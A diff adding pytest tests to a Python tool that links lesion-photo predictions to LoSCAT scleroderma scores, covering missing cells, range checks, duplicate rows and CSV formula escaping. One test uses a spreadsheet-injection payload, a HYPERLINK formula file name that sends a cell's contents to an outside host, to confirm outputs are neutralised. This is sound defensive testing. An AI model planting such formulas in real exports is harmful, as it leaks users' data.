@@ -50,7 +50,7 @@ def clinic(tmp_path):
         ["P1", "V1", "left_hand", 0, 0, 0, 1, 0, 1],    # 0, 2
         ["P1", "V1", "Rt. Hand", 1, 0, 0, 0, 0, 0],     # 1, 0 -> hand at P1 V1: 1, 2
         ["P1", "V2", "chest", 0, 0, 0, 2, 0, 0],        # 0, 2; no photo of P1 V2 -> no_photo
-        ["P2", "V1", "LEFT_THIGH", 2, 2, 1, 0, 0, 0],   # 5, 0
+        ["P2", "V1", "LEFT_THIGH", 2, 0, 3, 0, 0, 0],   # 5, 0 (new_extension is 0 or 3)
         ["P2", "V1", "tail", 3, 3, 3, 3, 3, 3],         # unknown_site
     ])
     return preds, scores, meta
@@ -125,3 +125,87 @@ def test_bad_inputs_are_user_errors(clinic, tmp_path, capsys):
     rc = main(["link", "--predictions", str(preds), "--scores", str(bad), "--metadata", str(meta),
                "--out", str(tmp_path / "o")])
     assert rc == 2 and "lacks column" in capsys.readouterr().err
+
+
+def _one_visit(tmp_path, score_rows, pred_rows=None, meta_rows=None):
+    preds = _csv(tmp_path / "p.csv", PRED_HEADER, pred_rows or [["a.jpg", "chest", "0.9", "False", "ok", ""]])
+    meta = _csv(tmp_path / "m.csv", ["image", "patient_id", "visit"], meta_rows or [["a.jpg", "P1", "V1"]])
+    return preds, _csv(tmp_path / "s.csv", SCORE_HEADER, score_rows), meta
+
+
+def test_empty_score_cells_stay_missing(tmp_path):
+    preds, scores, meta = _one_visit(tmp_path, [
+        ["P1", "V1", "chest", "", 2, 3, "", "", ""],      # mLoSSI 5 with erythema missing; LoSDI all missing
+        ["P1", "V1", "abdomen", "", "", "", 0, 0, 0],    # mLoSSI all missing; LoSDI 0 (a real 0)
+        ["P1", "V2", "chest", "", "", "", "", "", ""],   # nothing scored: no activity and no damage counted
+    ])
+    s = run_link(preds, scores, meta, tmp_path / "o", plots=False).summary
+    assert s["score_cells_missing"] == {"erythema": 3, "skin_thickness": 2, "new_extension": 2,
+                                        "dermal_atrophy": 2, "subcutaneous_atrophy": 2, "dyspigmentation": 2}
+    assert s["score_rows_with_missing"] == 3 and s["mean_mLoSSI_per_region"] == {"chest": 5.0}
+    (linked,) = _read(tmp_path / "o" / "linked_photos.csv")
+    assert (linked["mLoSSI"], linked["mLoSSI_missing"], linked["LoSDI"], linked["LoSDI_missing"]) == (
+        "5.0", "1", "", "3")
+    rv = {(r["region"], r["visit"]): r for r in _read(tmp_path / "o" / "scores_by_region_visit.csv")}
+    assert (rv["chest", "V1"]["mLoSSI_sum"], rv["chest", "V1"]["LoSDI_sum"]) == ("5.0", "")
+    assert (rv["abdomen", "V1"]["mLoSSI_sum"], rv["abdomen", "V1"]["LoSDI_sum"]) == ("", "0.0")
+    assert (rv["chest", "V2"]["mLoSSI_sum"], rv["chest", "V2"]["mLoSSI_mean"], rv["chest", "V2"]["LoSDI_sum"],
+            rv["chest", "V2"]["mLoSSI_missing"]) == ("", "", "", "3")
+    unmatched = {r["row"]: r for r in _read(tmp_path / "o" / "unmatched_scores.csv")}
+    assert unmatched["4"]["reason"] == "no_photo" and unmatched["4"]["erythema"] == ""
+    dist = {r["region"]: r for r in _read(tmp_path / "o" / "lesion_distribution.csv")}
+    assert (dist["chest"]["patients_with_activity"], dist["chest"]["patients_with_damage"]) == ("1", "0")
+
+
+@pytest.mark.parametrize("bad", [9, -1, 100, 2.5, "x"])
+def test_out_of_range_scores_are_refused_with_the_row(tmp_path, bad):
+    preds, scores, meta = _one_visit(tmp_path, [["P1", "V1", "chest", 1, 0, 0, 0, 0, 0],
+                                                ["P1", "V1", "abdomen", bad, 0, 0, 0, 0, 0]])
+    with pytest.raises(LoscatError, match=rf"row 3: erythema '{bad}' is (out of range|not a number)"):
+        run_link(preds, scores, meta, tmp_path / "o", plots=False)
+    assert not (tmp_path / "o").exists()  # refused before anything is written
+
+
+def test_repeated_score_rows_are_refused_not_added_twice(tmp_path, capsys):
+    preds, scores, meta = _one_visit(tmp_path, [["P1", "V1", "chest", 1, 0, 0, 0, 0, 0],
+                                                ["P1", "V1", "tail", 1, 0, 0, 0, 0, 0],
+                                                ["P1", "V1", "Chest", 1, 0, 0, 0, 0, 0],
+                                                ["P1", "V1", "TAIL ", 1, 0, 0, 0, 0, 0]])
+    with pytest.raises(LoscatError, match="row 4: repeats row 2.*row 5: repeats row 3"):
+        run_link(preds, scores, meta, tmp_path / "o", plots=False)
+    rc = main(["link", "--predictions", str(preds), "--scores", str(scores), "--metadata", str(meta),
+               "--out", str(tmp_path / "o")])
+    err = capsys.readouterr().err.strip()
+    assert rc == 2 and "repeats row 2" in err and len(err.splitlines()) == 1
+
+
+def test_link_and_prepare_share_one_reader(tmp_path):
+    # new_extension is 0 or 3 in the LoSCAT; link used to accept anything numeric
+    preds, scores, meta = _one_visit(tmp_path, [["P1", "V1", "chest", 1, 0, 1, 0, 0, 0]])
+    with pytest.raises(LoscatError, match="row 2: new_extension '1' is out of range"):
+        run_link(preds, scores, meta, tmp_path / "o", plots=False)
+    import loscat_hf.link as link
+    from loscat_hf import scores as score_module
+
+    assert not any(hasattr(link, name) for name in ("ACTIVITY", "DAMAGE", "_score"))
+    assert link.SCORE_COLUMNS is score_module.SCORE_COLUMNS
+
+
+def test_link_csvs_cannot_run_formulas(tmp_path):
+    # predict writes '=... for a file name starting with '=': link reads it back and matches the metadata
+    evil = '=HYPERLINK("http://x/?"&A1).jpg'
+    preds, scores, meta = _one_visit(
+        tmp_path, [["-P1", "@V1", "chest", 1, 0, 0, 0, 0, 0], ["-P1", "@V1", "+tail", 1, 0, 0, 0, 0, 0]],
+        pred_rows=[["'" + evil, "chest", "0.9", "False", "ok", ""], ["+x.jpg", "", "", "", "unreadable", "-err"]],
+        meta_rows=[[evil, "-P1", "@V1"]])
+    s = run_link(preds, scores, meta, tmp_path / "o", plots=False).summary
+    assert s["photos_linked"] == 1
+    out = tmp_path / "o"
+    linked = (out / "linked_photos.csv").read_text()
+    assert "'=HYPERLINK" in linked and "''=" not in linked and "'-P1" in linked and "'@V1" in linked
+    assert "'+x.jpg" in (out / "prediction_errors.csv").read_text()
+    assert "'+tail" in (out / "unmatched_scores.csv").read_text()
+    for f in out.glob("*.csv"):
+        for row in csv.reader(f.open(newline="")):
+            assert not any(cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not cell[1:2].isdigit())
+                           for cell in row), (f.name, row)
